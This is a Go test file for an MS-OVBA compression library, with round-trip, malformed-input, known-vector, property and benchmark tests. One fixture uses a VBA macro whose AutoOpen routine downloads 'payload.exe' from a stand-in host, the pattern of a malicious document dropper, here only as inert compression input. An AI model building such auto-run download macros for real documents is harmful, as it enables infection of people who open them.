@@ -1,0 +1,177 @@
+package ovba
+
+import (
+	"bytes"
+	"math/rand"
+	"strings"
+	"testing"
+	"testing/quick"
+)
+
+func roundTrip(t *testing.T, data []byte) {
+	t.Helper()
+	comp := Compress(data)
+	got, err := Decompress(comp)
+	if err != nil {
+		t.Fatalf("Decompress: %v (input %d bytes, compressed %d)", err, len(data), len(comp))
+	}
+	if !bytes.Equal(got, data) {
+		t.Fatalf("round trip mismatch: in %d bytes, out %d bytes", len(data), len(got))
+	}
+}
+
+func TestCompressRoundTripBasic(t *testing.T) {
+	cases := [][]byte{
+		nil,
+		{},
+		[]byte("a"),
+		[]byte("ab"),
+		[]byte("abc"),
+		[]byte("#aaabcdefaaaaghijaaaa"),
+		[]byte(strings.Repeat("a", 4096)),
+		[]byte(strings.Repeat("a", 4097)),
+		[]byte(strings.Repeat("ab", 5000)),
+		[]byte("Sub Hello()\r\n    MsgBox \"hi\"\r\nEnd Sub\r\n"),
+	}
+	for _, c := range cases {
+		roundTrip(t, c)
+	}
+}
+
+func TestCompressRoundTripVBASource(t *testing.T) {
+	src := strings.Repeat(`Attribute VB_Name = "Module1"
+Sub AutoOpen()
+    Dim u As String
+    u = "http://example.test/payload.exe"
+    Call Download(u)
+End Sub
+`, 40)
+	roundTrip(t, []byte(src))
+	// Repetitive source must actually compress.
+	if comp := Compress([]byte(src)); len(comp) >= len(src) {
+		t.Errorf("repetitive source did not compress: %d >= %d", len(comp), len(src))
+	}
+}
+
+func TestCompressRandomDataFallsBackToRaw(t *testing.T) {
+	rng := rand.New(rand.NewSource(1))
+	data := make([]byte, 3*4096)
+	rng.Read(data)
+	roundTrip(t, data)
+}
+
+func TestCompressChunkBoundaries(t *testing.T) {
+	for _, n := range []int{4095, 4096, 4097, 8191, 8192, 8193, 12288} {
+		data := make([]byte, n)
+		for i := range data {
+			data[i] = byte(i % 251)
+		}
+		roundTrip(t, data)
+	}
+}
+
+func TestDecompressRejectsBadInput(t *testing.T) {
+	cases := [][]byte{
+		{},                                // empty
+		{0x02},                            // wrong signature
+		{0x01, 0x05},                      // truncated chunk header
+		{0x01, 0xFF},                      // truncated chunk header
+		{0x01, 0, 0},                      // bad chunk signature (bits 12..14 = 0)
+		{0x01, 3, 0xB0, 0x01, 0xFF, 0xFF}, // copy token with offset into empty window
+	}
+	for _, c := range cases {
+		if _, err := Decompress(c); err == nil {
+			t.Errorf("Decompress(%v) succeeded", c)
+		}
+	}
+}
+
+func TestDecompressEmptyContainer(t *testing.T) {
+	got, err := Decompress([]byte{0x01})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(got) != 0 {
+		t.Errorf("got %d bytes", len(got))
+	}
+}
+
+func TestDecompressKnownVector(t *testing.T) {
+	// Hand-computed vector for "#aaabcdefaaaaghijaaaa" (the [MS-OVBA]
+	// worked example input): one compressed chunk, two copy tokens with
+	// 4-bit and 5-bit offset widths.
+	comp := []byte{
+		0x01, 0x14, 0xB0, 0x00, 0x23, 0x61, 0x61, 0x61,
+		0x62, 0x63, 0x64, 0x65, 0x82, 0x66, 0x00, 0x70,
+		0x61, 0x67, 0x68, 0x69, 0x6A, 0x01, 0x38, 0x08,
+	}
+	got, err := Decompress(comp)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := "#aaabcdefaaaaghijaaaa"
+	if string(got) != want {
+		t.Errorf("got %q, want %q", got, want)
+	}
+}
+
+func TestCompressRoundTripProperty(t *testing.T) {
+	f := func(data []byte) bool {
+		comp := Compress(data)
+		got, err := Decompress(comp)
+		return err == nil && bytes.Equal(got, data)
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
+		t.Error(err)
+	}
+}
+
+func TestCompressRoundTripLowEntropyProperty(t *testing.T) {
+	// Low-entropy inputs exercise copy tokens far more than uniform fuzz.
+	f := func(seed int64, n uint16) bool {
+		rng := rand.New(rand.NewSource(seed))
+		data := make([]byte, int(n)%10000)
+		for i := range data {
+			data[i] = byte(rng.Intn(4))
+		}
+		comp := Compress(data)
+		got, err := Decompress(comp)
+		return err == nil && bytes.Equal(got, data)
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
+		t.Error(err)
+	}
+}
+
+func TestCopyTokenBits(t *testing.T) {
+	cases := map[int]uint{
+		0: 4, 1: 4, 16: 4, 17: 5, 32: 5, 33: 6,
+		64: 6, 65: 7, 1024: 10, 2048: 11, 4096: 12,
+	}
+	for pos, want := range cases {
+		if got := copyTokenBits(pos); got != want {
+			t.Errorf("copyTokenBits(%d) = %d, want %d", pos, got, want)
+		}
+	}
+}
+
+func BenchmarkCompress(b *testing.B) {
+	src := []byte(strings.Repeat("Dim x As Long\r\nx = x + 1\r\n", 200))
+	b.SetBytes(int64(len(src)))
+	b.ReportAllocs()
+	for i := 0; i < b.N; i++ {
+		Compress(src)
+	}
+}
+
+func BenchmarkDecompress(b *testing.B) {
+	src := []byte(strings.Repeat("Dim x As Long\r\nx = x + 1\r\n", 200))
+	comp := Compress(src)
+	b.SetBytes(int64(len(src)))
+	b.ReportAllocs()
+	for i := 0; i < b.N; i++ {
+		if _, err := Decompress(comp); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
